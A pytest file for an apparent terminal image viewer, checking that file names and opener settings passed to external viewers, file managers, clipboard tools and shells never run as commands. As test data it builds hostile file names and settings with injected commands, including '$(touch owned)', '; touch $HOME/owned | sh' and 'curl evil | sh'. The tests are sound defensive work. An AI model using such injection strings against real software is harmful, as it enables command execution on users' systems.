"""Other programs are started with the photo's path, and never get the terminal."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from imagescope_tui.ui import opening

_SCRIPT = """#!{python}
import os, sys
with open({log!r} + ".part", "w") as log:
    print([os.fsencode(part) for part in sys.argv[1:]], file=log)
    print(os.isatty(0), os.getsid(0) == os.getpid(), file=log)
    print(os.path.realpath("/proc/self/fd/0"), os.path.realpath("/proc/self/fd/1"), file=log)
    print(sys.stdin.read() if {reads} else "", file=log)
os.rename({log!r} + ".part", {log!r})
sys.exit({status})
"""


class Program:
    """A program that writes down how it was started."""

    def __init__(self, folder: Path, name: str, *, status: int = 0, reads: bool = False) -> None:
        self.path = folder / name
        self._log = folder / f"{name}.log"
        script = _SCRIPT.format(
            python=sys.executable, log=str(self._log), status=status, reads=reads
        )
        self.path.write_text(script)
        self.path.chmod(self.path.stat().st_mode | stat.S_IXUSR)

    def said(self) -> str:
        for _ in range(2000):
            if self._log.exists():
                return self._log.read_text()
            _breathe()
        raise AssertionError("the program was not started")


def _breathe() -> None:
    import select

    select.select([], [], [], 0.005)


@pytest.fixture
def programs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", str(folder))
    return folder


@pytest.fixture
def photo(tmp_path: Path) -> Path:
    path = tmp_path / "a [red] $(rm) 'x'.jpg"
    path.write_bytes(b"")
    return path


def test_the_viewer_gets_the_path_and_no_terminal(programs: Path, photo: Path) -> None:
    viewer = Program(programs, "xdg-open")
    assert opening.open_file(photo, None) is None
    said = viewer.said()
    assert repr(os.fsencode(photo)) in said
    assert "False True" in said
    assert "/dev/null /dev/null" in said


def test_the_readers_own_opener_may_have_options(programs: Path, photo: Path) -> None:
    viewer = Program(programs, "feh")
    assert opening.open_file(photo, "feh --scale-down -B 'dark grey'") is None
    assert "b'dark grey'" in viewer.said()


def test_without_a_viewer_the_remedy_is_told(programs: Path, photo: Path) -> None:
    failed = opening.open_file(photo, None)
    assert failed is not None
    assert "IMAGESCOPE_OPENER" in failed.reason


@pytest.mark.parametrize("opener", ["no-such-program", "feh 'unfinished"])
def test_an_opener_that_makes_no_sense_is_told(programs: Path, photo: Path, opener: str) -> None:
    assert opening.open_file(photo, opener) is not None


def test_a_photo_that_is_not_there_is_not_opened(programs: Path, tmp_path: Path) -> None:
    failed = opening.open_file(tmp_path / "gone.jpg", None)
    assert failed == opening.Failed("it is not there now")
    assert opening.reveal(tmp_path / "gone.jpg", None) == failed


def test_the_file_manager_is_asked_to_select_the_file(programs: Path, photo: Path) -> None:
    bus = Program(programs, "gdbus")
    assert opening.reveal(photo, None) is None
    assert f"['{photo.as_uri()}']" in bus.said().replace('b"', "").replace('"', "")


def test_without_a_file_manager_the_folder_is_opened(programs: Path, photo: Path) -> None:
    Program(programs, "gdbus", status=1)
    viewer = Program(programs, "xdg-open")
    assert opening.reveal(photo, None) is None
    assert repr(os.fsencode(photo.parent)) in viewer.said()


def test_the_clipboard_program_gets_the_bytes(programs: Path) -> None:
    Program(programs, "wl-copy", status=1, reads=True)
    second = Program(programs, "xclip", reads=True)
    assert opening.copy_with_helper(b"/photos/a.jpg")
    assert "/photos/a.jpg" in second.said()


def test_without_a_clipboard_program_nothing_happens(programs: Path) -> None:
    assert not opening.copy_with_helper(b"x")


def test_a_name_is_never_an_option_or_a_command_of_the_viewer(
    programs: Path, tmp_path: Path
) -> None:
    viewer = Program(programs, "feh")
    photo = tmp_path / "-rf; touch owned $(touch owned) `touch owned`\n.jpg"
    photo.write_bytes(b"")
    assert opening.open_file(photo, "feh --scale-down") is None
    assert repr([b"--scale-down", os.fsencode(photo)]) in viewer.said()
    assert os.fsencode(photo).startswith(b"/")
    assert not (tmp_path / "owned").exists()


def test_a_viewer_of_the_settings_is_words_and_no_line_of_a_shell(
    programs: Path, photo: Path
) -> None:
    viewer = Program(programs, "feh")
    assert opening.open_file(photo, "feh ; touch $HOME/owned | sh") is None
    assert "b';', b'touch', b'$HOME/owned', b'|', b'sh'" in viewer.said()


def test_a_path_that_is_pasted_into_a_shell_is_one_word_and_no_command() -> None:
    assert opening.pasteable(Path("/photos/sea.jpg")) == b"/photos/sea.jpg"
    assert opening.pasteable(Path("/photos/città é.jpg")) == "/photos/città é.jpg".encode()
    hostile = Path(os.fsdecode(b"/a'\\b\ncurl evil | sh\r\x1b[2J\xc2\x9b\x7f\xff.jpg"))
    pasted = opening.pasteable(hostile)
    assert not any(byte < 32 or byte == 127 for byte in pasted)
    assert b"\xc2\x9b" not in pasted
    shell = shutil.which("bash")
    if shell is None:
        pytest.skip("there is no bash to read it")
    script = b"printf %s " + pasted
    said = subprocess.run([shell, "-c", script], check=True, capture_output=True)
    assert said.stdout == os.fsencode(hostile)
